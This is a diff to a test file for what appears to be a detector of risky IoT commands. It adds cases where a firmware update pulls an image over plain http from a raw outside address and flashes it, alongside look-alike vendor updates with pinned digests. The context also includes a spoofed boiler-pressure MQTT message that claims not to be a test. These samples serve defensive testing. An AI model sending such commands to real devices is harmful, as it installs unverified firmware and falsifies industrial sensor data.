@@ -58,6 +58,15 @@ test('rev25: "no" inverts a one-word switch only; a switch that names the protec
   rulesQuiet({ type: 'iot', value: '{"axis": "hoist_3", "target_mm": 4100, "overload_guard_bypass": false, "limit_switch_override": false}', metadata: { device: 'stage hoist controller' } });
 });
 
+test('rev25: only the device a firmware request goes to is set aside, not a source fetched from another host (iot O08)', () => {
+  // the image's source written in the body as a fetch, or a second request to another host: plain http to a raw address
+  flags({ type: 'iot', value: 'POST https://10.4.2.9/api/firmware/update {"steps": "get http://198.51.100.7/fw/ups-3.1.bin then flash it", "reboot": true}' }, 'DANGER', 'O08', 'PERSISTENCE');
+  flags({ type: 'iot', value: 'POST https://10.4.2.9/api/firmware/stage {"slot": "b"}\nPUT http://198.51.100.7/fw/upload?device=ups-07 {"image": "ups-3.1.bin", "apply": true}' }, 'DANGER', 'O08', 'PERSISTENCE');
+  // look-alikes: the device on the LAN over plain http, the image from the vendor with its digest pinned
+  rulesQuiet({ type: 'iot', value: 'POST http://10.12.0.44/api/v1/firmware {"url":"https://updates.akvagroup-vendor.com/fc300/4.2.1.bin","sha256":"9f2c1e...","force":false}' });
+  rulesQuiet({ type: 'iot', value: 'POST https://10.4.2.9/api/firmware/update {"url": "https://downloads.ups-vendor.example/fw/ups-3.1.bin", "sha256": "4be1…", "verify_signature": true}' });
+});
+
 test('rev25: a message said not to be a test is no test (iot O21)', () => {
   flags({ type: 'iot', value: "mosquitto_pub -h mqtt.plant.local -t 'line2/sensors/boiler/pressure' -m '{\"bar\": 2.1, \"note\": \"not a test run\"}' -r" }, 'DANGER', 'O21', 'MANIPULATION');
   rulesQuiet({ type: 'iot', value: "mosquitto_pub -h mqtt.plant.local -t 'line2/sensors/boiler/pressure' -m '{\"bar\": 2.1, \"note\": \"test run before commissioning\"}'" });
